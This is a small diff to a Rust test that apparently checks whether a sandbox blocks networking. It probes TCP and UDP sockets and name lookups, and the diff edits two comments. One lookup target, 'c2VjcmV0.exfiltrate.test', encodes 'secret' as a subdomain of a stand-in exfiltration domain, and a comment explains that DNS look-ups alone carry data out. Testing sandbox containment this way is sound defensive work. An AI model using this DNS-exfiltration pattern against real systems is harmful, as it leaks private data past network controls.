@@ -15,7 +15,7 @@ fn main() -> ExitCode {
     for family in [IpAddressFamily::Ipv4, IpAddressFamily::Ipv6] {
         match tcp_create_socket::create_tcp_socket(family) {
             Ok(socket) => {
-                // A socket by itself reaches no one. Using it would.
+                // A socket alone reaches no one. Using it would.
                 let connected = socket.start_connect(&network, LOOPBACK).and_then(|()| {
                     socket.subscribe().block();
                     socket.finish_connect()
@@ -35,7 +35,7 @@ fn main() -> ExitCode {
             Err(error) => attack.held(&format!("create a UDP socket, {family:?}: {error:?}")),
         }
     }
-    // A name alone carries data out, to whoever answers for its domain.
+    // A look-up alone carries data out, to whoever runs the domain's name server.
     for name in ["localhost", "127.0.0.1", "c2VjcmV0.exfiltrate.test"] {
         let found = ip_name_lookup::resolve_addresses(&network, name).and_then(|addresses| {
             addresses.subscribe().block();
